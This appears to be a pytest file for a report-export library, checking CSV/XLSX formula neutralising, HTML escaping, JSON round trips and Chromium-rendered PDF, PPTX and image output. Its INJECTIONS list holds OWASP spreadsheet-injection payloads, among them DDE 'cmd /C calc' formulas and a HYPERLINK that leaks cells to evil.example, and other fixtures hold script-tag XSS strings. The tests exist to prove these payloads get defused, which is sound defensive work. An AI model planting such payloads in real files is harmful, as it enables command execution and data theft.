@@ -1,0 +1,367 @@
+"""Every export format, read back: CSV/XLSX formula neutralising, JSON round trip, offline HTML, and the
+Chromium-rendered PNG/SVG/PDF/PPTX (those run only where Chromium is installed, as it is on CI)."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import re
+import shutil
+import struct
+import subprocess
+import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
+
+import openpyxl
+import pandas as pd
+import plotly.graph_objects as go
+import pytest
+from plotly.offline import get_plotlyjs
+from pptx import Presentation
+from pptx.enum.shapes import MSO_SHAPE_TYPE
+from pptx.util import Inches
+
+from microlens.export import (
+    Brand, ExportUnavailable, Section, chromium_path, figure_image, figure_images, load_brand, neutralise,
+    neutralise_frame, to_csv, to_html, to_json, to_pdf, to_pptx, to_xlsx,
+)
+from microlens.export_data import excel_sheet_names
+from microlens.export_model import accent_on_white, cell_text, ink_on
+from microlens.export_pdf import report_html
+
+# A 1x1 PNG (the smallest valid one) for logos.
+TINY_PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
+    "0000000d49444154789c6360f8cfc0f01f0005000201e2269a1b0000000049454e44ae426082")
+
+# OWASP "CSV Injection" payloads and variants; every one must come back as text.
+INJECTIONS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x")',
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click here")',
+    "+cmd|' /C notepad'!'B1'",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
+    "=1+1",
+    "-1+2",
+    "\t=1+1",
+    "\r=1+1",
+    "   =1+1",
+    "\n@SUM(A1)",
+    "＝1+1",
+]
+HOSTILE = ['=HYPERLINK("http://x")', "<script>alert(1)</script>", "@SUM(A1)", "café crème ☕", "-5",
+           "+1+1"]
+
+chromium = pytest.mark.skipif(chromium_path() is None, reason="needs Chromium (apt-get install chromium)")
+
+
+def hostile_table() -> pd.DataFrame:
+    return pd.DataFrame({
+        "influencer": HOSTILE,
+        "followers": [12_000, 45_000, 88_000, 15_000, -5, 3],
+        "er": [0.031, 0.052, float("nan"), 0.044, 0.01, 0.02],
+        "posted_at": pd.to_datetime(["2025-03-01 10:00"] * 6).tz_localize("Europe/Madrid"),
+    })
+
+
+def bar_figure(title: str = "Micro posts cost less") -> go.Figure:
+    return go.Figure(go.Bar(x=["nano", "micro", "celebrity"], y=[0.03, 0.04, 0.52]),
+                     layout=dict(title=title))
+
+
+def sample_sections() -> list[Section]:
+    bands = pd.DataFrame({"band": ["nano", "micro", "celebrity"], "cpe": [0.03, 0.04, 0.52]})
+    return [
+        Section("cpe", "Cost vs celebrity", "Micro posts cost 13x less per engagement", bar_figure(), bands,
+                source="brief (unverified): $20,000–$100,000 per celebrity post",
+                sql="select band, sum(cost) / sum(engagements) as cpe from posts group by band"),
+        Section("roster", "Roster", "<script>alert(1)</script> leads the roster", None, hostile_table(),
+                source="Your uploaded posts"),
+        Section("prices", "Prices / fees: Q3", "84% of micro posts cost under $250", bar_figure("Prices"),
+                pd.DataFrame({"price": [120.0, 240.0]})),
+    ]
+
+
+# --- neutralising -------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_injection_payloads_become_text(payload):
+    assert neutralise(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("value", ["hello", "-5", "+1.5", "3.2e-4", " -5 ", "user@example.com", "a=b", "",
+                                   "   ", "e-mail", 42, -5, -5.0, None, True])
+def test_harmless_values_are_untouched(value):
+    result = neutralise(value)
+    assert result == value and type(result) is type(value)
+
+
+def test_neutralise_frame_touches_only_text_and_labels():
+    df = pd.DataFrame({"name": ["=1+1", "ok"], "n": [-5, 7], "=label": ["x", "@y"]})
+    df["band"] = pd.Categorical(["-a", "b"])
+    out = neutralise_frame(df)
+    assert list(out.columns) == ["name", "n", "'=label", "band"]
+    assert out["name"].tolist() == ["'=1+1", "ok"]
+    assert out["'=label"].tolist() == ["x", "'@y"]
+    assert out["band"].tolist() == ["'-a", "b"]
+    assert out["n"].tolist() == [-5, 7] and out["n"].dtype == df["n"].dtype
+    assert df["name"].tolist() == ["=1+1", "ok"]      # the input is not modified
+    twins = neutralise_frame(pd.DataFrame([["=a", 1, "@b"]], columns=["x", "y", "x"]))
+    assert twins.values.tolist() == [["'=a", 1, "'@b"]]
+
+
+# --- CSV / XLSX / JSON --------------------------------------------------------------------------------
+
+def test_csv_has_bom_and_neutralised_cells():
+    data = to_csv(hostile_table())
+    assert data.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0] == ["influencer", "followers", "er", "posted_at"]
+    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE[0], HOSTILE[1], "'@SUM(A1)", "café crème ☕", "-5",
+                                       "'+1+1"]
+    assert [r[1] for r in rows[1:]] == ["12000", "45000", "88000", "15000", "-5", "3"]
+    assert rows[3][2] == ""                            # NaN is an empty cell
+
+
+def test_excel_sheet_names_are_valid_and_unique():
+    names = excel_sheet_names(["Cost vs celebrity", "cost VS celebrity", "a/b:c*?[x]", "'quoted'", "",
+                               "History", "x" * 40, "x" * 40, "About"], reserved=("About",))
+    assert names == ["Cost vs celebrity", "cost VS celebrity (2)", "a b c x", "quoted", "Sheet",
+                     "History data", "x" * 31, "x" * 27 + " (2)", "About (2)"]
+
+
+def test_xlsx_reads_back_neutralised_with_bold_header():
+    sections = sample_sections()
+    sections[1].table.loc[0, "influencer"] = "bell\x07 =1+1"   # a control character Excel rejects
+    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sections)))
+    assert workbook.sheetnames == ["Cost vs celebrity", "Roster", "Prices fees Q3", "About"]
+    roster = workbook["Roster"]
+    assert [c.value for c in roster[1]] == ["influencer", "followers", "er", "posted_at"]
+    assert all(c.font.bold for c in roster[1])
+    assert roster.freeze_panes == "A2"
+    assert [roster.cell(r, 1).value for r in range(2, 8)] == [
+        "bell =1+1", HOSTILE[1], "'@SUM(A1)", "café crème ☕", "-5", "'+1+1"]
+    assert all(roster.cell(r, 1).data_type == "s" for r in range(2, 8))   # no formula cells at all
+    assert roster.cell(6, 2).value == -5                 # a negative number stays a number
+    assert roster.cell(4, 3).value is None               # NaN -> empty
+    assert roster.cell(2, 4).value == dt.datetime(2025, 3, 1, 10, 0)   # wall-clock time, zone dropped
+    about = workbook["About"]
+    assert [c.value for c in about[1]] == ["sheet", "title", "finding", "source", "sql"]
+    assert about.cell(3, 1).value == "Roster" and about.cell(3, 3).value.startswith("<script>")
+    assert about.cell(2, 5).value.startswith("select band")
+
+
+def test_json_round_trip():
+    sections = sample_sections()
+    payload = json.loads(to_json(sections))
+    assert [p["key"] for p in payload] == ["cpe", "roster", "prices"]
+    assert payload[0]["table"] == [{"band": "nano", "cpe": 0.03}, {"band": "micro", "cpe": 0.04},
+                                   {"band": "celebrity", "cpe": 0.52}]
+    roster = payload[1]["table"]
+    assert [r["influencer"] for r in roster] == HOSTILE    # JSON keeps values exactly as they are
+    assert roster[2]["er"] is None
+    assert roster[0]["posted_at"] == "2025-03-01T09:00:00.000Z"   # 10:00 in Madrid (UTC+1) as UTC
+    assert payload[1]["finding"] == sections[1].finding and payload[0]["source"] == sections[0].source
+
+
+# --- brand and display rules --------------------------------------------------------------------------
+
+def test_brand_colour_is_validated_and_normalised():
+    assert Brand(primary="#e90").primary == "#EE9900"
+    for bad in ["red", "#12345", "#0072B2; } body { x", "0072B2"]:
+        with pytest.raises(ValueError, match="not a hex colour"):
+            Brand(primary=bad)
+    with pytest.raises(ValueError, match="PNG or JPEG"):
+        Brand(logo=b"<svg/>")
+
+
+def test_load_brand(tmp_path):
+    (tmp_path / "logo.png").write_bytes(TINY_PNG)
+    (tmp_path / "brand.toml").write_text('name = "Acme"\nprimary = "#E69F00"\nlogo = "logo.png"\n')
+    assert load_brand(tmp_path / "brand.toml") == Brand("Acme", "#E69F00", TINY_PNG)
+    (tmp_path / "bad.toml").write_text('name = "Acme"\nprimary = "orange"\n')
+    with pytest.raises(ValueError, match="'orange' is not a hex colour"):
+        load_brand(tmp_path / "bad.toml")
+    (tmp_path / "nologo.toml").write_text('logo = "missing.png"\n')
+    with pytest.raises(ValueError, match="missing.png.*does not exist"):
+        load_brand(tmp_path / "nologo.toml")
+    (tmp_path / "typo.toml").write_text('colour = "#000000"\n')
+    with pytest.raises(ValueError, match="unknown keys colour"):
+        load_brand(tmp_path / "typo.toml")
+    (tmp_path / "broken.toml").write_text('name = "Acme\n')
+    with pytest.raises(ValueError, match="not valid TOML"):
+        load_brand(tmp_path / "broken.toml")
+
+
+def test_text_colours_keep_contrast():
+    assert ink_on("#0072B2") == "#FFFFFF"           # white on the house blue
+    assert ink_on("#F0E442") == "#1F2933"           # dark on the Okabe-Ito yellow
+    assert accent_on_white("#0072B2") == "#0072B2"  # 5.2:1 on white, readable
+    assert accent_on_white("#F0E442") == "#1F2933"  # 1.3:1 on white, replaced
+
+
+def test_cell_text():
+    assert [cell_text(v) for v in [12345, 0.0123, 1234.5678, float("nan"), None, pd.NaT, True,
+                                   pd.Timestamp("2025-03-01"), pd.Timestamp("2025-03-01 10:05")]] == [
+        "12,345", "0.0123", "1,234.57", "–", "–", "–", "yes", "2025-03-01", "2025-03-01 10:05"]
+
+
+# --- HTML ---------------------------------------------------------------------------------------------
+
+class _Collector(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.urls, self.tags, self.script_lengths = [], [], []
+        self._in_script = False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.urls += [value for name, value in attrs if name in ("src", "href") and value]
+        if tag == "script":
+            self._in_script = True
+            self.script_lengths.append(0)
+
+    def handle_endtag(self, tag):
+        if tag == "script":
+            self._in_script = False
+
+    def handle_data(self, data):
+        if self._in_script:
+            self.script_lengths[-1] += len(data)
+
+
+def test_html_is_self_contained_and_escaped():
+    sections = sample_sections()
+    page = to_html(sections, "Q3 <review>", "for <b>client</b>", Brand("Acme", "#E69F00", TINY_PNG))
+    parser = _Collector()
+    parser.feed(page)
+    assert not [u for u in parser.urls if re.match(r"\s*(https?:)?//", u, re.I)]
+    assert "link" not in parser.tags
+    assert sum(length > 1_000_000 for length in parser.script_lengths) == 1   # the plotly.js bundle
+    assert page.count(get_plotlyjs()[:500]) == 1
+    assert page.count("Plotly.newPlot(") == 2             # one interactive chart per figure
+    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt; leads" in page
+    assert "<b>client" not in page and "Q3 &lt;review&gt;" in page
+    assert "data:image/png;base64," in page and "--brand: #E69F00" in page
+    assert "connect-src" not in page and "default-src 'none'" in page     # CSP blocks every fetch
+    assert "Source: brief (unverified)" in page and "select band" in page
+    # Each table is under its chart: the data heading follows the chart's div.
+    assert page.index('id="chart-1"') < page.index("Data · 3 rows") < page.index('id="section-2"')
+    assert sections[0].figure.layout.title.text == "Micro posts cost less"   # figures are not modified
+
+
+# --- Chromium: images, PDF, PPTX ---------------------------------------------------------------------
+
+def test_chromium_path(monkeypatch, tmp_path):
+    fake = tmp_path / "chrome"
+    fake.write_text("#!/bin/sh\n")
+    fake.chmod(0o755)
+    monkeypatch.setenv("BROWSER_PATH", str(fake))
+    assert chromium_path() == str(fake)
+    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "missing"))
+    assert chromium_path() is None                      # no silent fallback from a pinned browser
+    monkeypatch.delenv("BROWSER_PATH")
+    monkeypatch.setattr(shutil, "which", lambda name: "/opt/bin/chromium-browser"
+                        if name == "chromium-browser" else None)
+    assert chromium_path() == "/opt/bin/chromium-browser"
+
+
+def test_missing_chromium_raises_export_unavailable(monkeypatch, tmp_path):
+    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-chromium"))
+    with pytest.raises(ExportUnavailable, match="BROWSER_PATH.*install the 'chromium' package"):
+        figure_image(bar_figure())
+    with pytest.raises(ExportUnavailable):
+        to_pdf(sample_sections(), "Report")
+    with pytest.raises(ExportUnavailable):
+        to_pptx(sample_sections(), "Report")
+    # A deck of tables only needs no browser.
+    deck = Presentation(io.BytesIO(to_pptx([sample_sections()[1]], "Tables only")))
+    assert len(deck.slides) == 2
+
+
+def test_browser_that_does_not_start_raises_export_unavailable(monkeypatch):
+    monkeypatch.setenv("BROWSER_PATH", "/bin/false")
+    with pytest.raises(ExportUnavailable, match="did not start"):
+        figure_image(bar_figure())
+
+
+def _png_size(data: bytes) -> tuple[int, int]:
+    assert data[:8] == b"\x89PNG\r\n\x1a\n"
+    return struct.unpack(">II", data[16:24])
+
+
+@chromium
+def test_png_and_svg_images():
+    pngs = figure_images([bar_figure(), bar_figure("Second")], "png", width=640, height=360, scale=2)
+    assert [_png_size(p) for p in pngs] == [(1280, 720), (1280, 720)]
+    assert pngs[0] != pngs[1]
+    svg = figure_image(bar_figure(), "svg", width=400, height=300)
+    root = ET.fromstring(svg)
+    assert root.tag == "{http://www.w3.org/2000/svg}svg" and root.get("width") == "400"
+    assert "Micro posts cost less" in svg.decode()      # a plain image keeps the chart's own title
+    with pytest.raises(ValueError, match="not supported"):
+        figure_image(bar_figure(), "gif")
+
+
+@pytest.fixture(scope="module")
+def pdf_bytes() -> bytes:
+    return to_pdf(sample_sections(), "Q3 review", "For Example Brand", Brand("Acme", "#E69F00", TINY_PNG))
+
+
+@chromium
+def test_pdf_has_title_page_and_one_page_per_section(pdf_bytes, tmp_path):
+    assert pdf_bytes.startswith(b"%PDF-")
+    assert len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf_bytes)) == 4
+    if shutil.which("pdftotext"):
+        (tmp_path / "r.pdf").write_bytes(pdf_bytes)
+
+        def page_text(number: int) -> str:
+            return subprocess.run(["pdftotext", "-layout", "-f", str(number), "-l", str(number),
+                                   str(tmp_path / "r.pdf"), "-"], capture_output=True, text=True,
+                                  check=True).stdout
+        assert "Q3 review" in page_text(1) and re.search(r"1\s*/\s*4", page_text(1))
+        assert "Micro posts cost 13x less per engagement" in page_text(2)
+        assert "Source: brief (unverified)" in page_text(2)
+        roster = page_text(3)
+        assert "<script>alert(1)</script> leads the roster" in roster and "café crème" in roster
+        assert "Micro posts cost less" not in page_text(2)   # the chart's own title is not repeated
+
+
+def test_pdf_cover_lists_every_section_or_says_how_many_more():
+    section = sample_sections()[1]
+    many = [Section(f"s{i}", "Roster", f"Finding {i}", None, section.table) for i in range(1, 31)]
+    cover = report_html(many, "Big report", "", Brand(), [None] * 30).split('<div class="page section">')[0]
+    assert re.findall(r"Finding (\d+)<", cover) == [str(i) for i in range(1, 24)]
+    assert "… and 7 more sections" in cover and "p. 25–31" in cover   # sections 24-30 on pages 25-31
+    cover = report_html(many[:24], "Report", "", Brand(), [None] * 24).split('<div class="page section">')[0]
+    assert len(re.findall(r"Finding \d+<", cover)) == 24 and "more sections" not in cover
+
+
+@pytest.fixture(scope="module")
+def deck() -> Presentation:
+    return Presentation(io.BytesIO(to_pptx(sample_sections(), "Q3 review", "For Example Brand",
+                                           Brand("Acme", "#E69F00", TINY_PNG))))
+
+
+@chromium
+def test_pptx_slides(deck):
+    assert (deck.slide_width, deck.slide_height) == (Inches(13.333), Inches(7.5))
+    assert [s.shapes.title.text for s in deck.slides] == [
+        "Q3 review", "Micro posts cost 13x less per engagement", "<script>alert(1)</script> leads the roster",
+        "84% of micro posts cost under $250"]
+    chart_slide, table_slide = deck.slides[1], deck.slides[2]
+    charts = [s for s in chart_slide.shapes if s.shape_type == MSO_SHAPE_TYPE.PICTURE
+              and s.image.content_type == "image/png" and s.width > Inches(5)]
+    assert len(charts) == 1 and _png_size(charts[0].image.blob)[0] > 2000
+    texts = [s.text_frame.text for s in chart_slide.shapes if s.has_text_frame]
+    assert "Source: brief (unverified): $20,000–$100,000 per celebrity post" in texts
+    assert "select band" in chart_slide.notes_slide.notes_text_frame.text
+    table = next(s.table for s in table_slide.shapes if s.has_table)
+    assert [table.cell(0, c).text for c in range(4)] == ["influencer", "followers", "er", "posted_at"]
+    assert [table.cell(r, 0).text for r in range(1, 7)] == HOSTILE
+    assert table.cell(3, 2).text == "–"
